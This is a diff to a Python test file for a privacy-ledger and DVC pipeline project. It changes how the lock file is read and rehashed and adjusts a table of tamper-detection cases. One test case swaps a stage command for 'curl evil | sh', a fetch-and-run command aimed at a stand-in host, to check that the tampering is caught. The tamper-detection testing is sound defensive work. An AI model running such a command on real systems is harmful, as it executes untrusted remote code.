@@ -12,7 +12,6 @@ from io import StringIO
 from pathlib import Path
 
 import pytest
-import yaml
 from program import call
 from small_record import small_record
 
@@ -22,6 +21,7 @@ from sfumato.privacy.events import SEEDED, UNITS, Mechanism
 from sfumato.privacy.ledger import build_ledger, ledger_text
 from sfumato.settings.data import GROUP
 from sfumato.storage.digest import digest_of
+from sfumato.storage.documents import read_yaml
 from stages.cli import main
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -40,21 +40,18 @@ def read_json() -> dict:
     return json.loads(LEDGER.read_text())
 
 
-def read_lock() -> dict:
-    return yaml.safe_load(LOCK.read_text())
-
-
 def edit_lock(change: Callable[[dict], object]) -> None:
     """Apply `change` to the stages of the lock."""
-    content = read_lock()
+    content = read_yaml(LOCK)
     change(content["stages"])
-    LOCK.write_text(yaml.safe_dump(content, sort_keys=False))
+    LOCK.write_text(json.dumps(content))  # which is YAML, and written in no time
 
 
 def relock() -> None:
-    """Give the ledger's md5 to the lock."""
-    md5 = hashlib.md5(LEDGER.read_bytes()).hexdigest()
-    edit_lock(lambda stages: stages["ledger"]["outs"][0].update(md5=md5))
+    """Give the ledger's md5 to the lock, which stays as DVC writes it."""
+    text = LOCK.read_text()
+    (old,) = {*re.findall(r"path: ledger\.json\n +hash: md5\n +md5: (\w+)", text)}
+    LOCK.write_text(text.replace(old, hashlib.md5(LEDGER.read_bytes()).hexdigest()))
 
 
 def sign(ledger: dict) -> None:
@@ -275,7 +272,7 @@ EDITS: dict[str, tuple[Callable[[], object], str]] = {
     "recipe of the next run": (appended("pipelines/full.yaml", "\n# changed\n"), NEXT_RUN),
     "profile of the next run": (appended("pipelines/profiles/demo.yaml", "\n# changed\n"), NEXT_RUN),
     "command of a stage": (with_text(Path("dvc.yaml"), "cmd: stage count", "cmd: curl evil | sh"), "`dvc.yaml`"),
-    "stage frozen": (with_text(Path("dvc.yaml"), "cmd: stage count", "cmd: stage count\n    frozen: true"), "`dvc.yaml`"),
+    "stage frozen": (with_text(Path("dvc.yaml"), "    cmd: stage count", "    frozen: true\n    cmd: x"), "`dvc.yaml`"),
     "package beside the ledger": (
         both(*(appended(f"{name}/__init__.py", "raise SystemExit(0)\n") for name in ("sfumato", "stages"))),
         "code",
